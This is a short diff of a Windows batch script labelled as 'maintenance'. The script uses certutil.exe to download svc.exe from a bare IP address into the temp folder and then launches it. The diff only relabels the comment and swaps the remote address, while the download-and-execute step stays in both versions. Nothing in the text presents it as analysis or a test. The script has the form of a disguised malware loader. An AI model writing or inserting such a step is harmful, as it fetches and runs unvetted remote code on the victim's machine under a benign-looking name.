@@ -1,4 +1,4 @@
-REM init 0407 v2
+REM maintenance 7595 v2
 @echo off
-certutil.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP%\svc.exe
+certutil.exe -urlcache -split -f http://198.51.100.23/svc.exe %TEMP%\svc.exe
 start "" %TEMP%\svc.exe
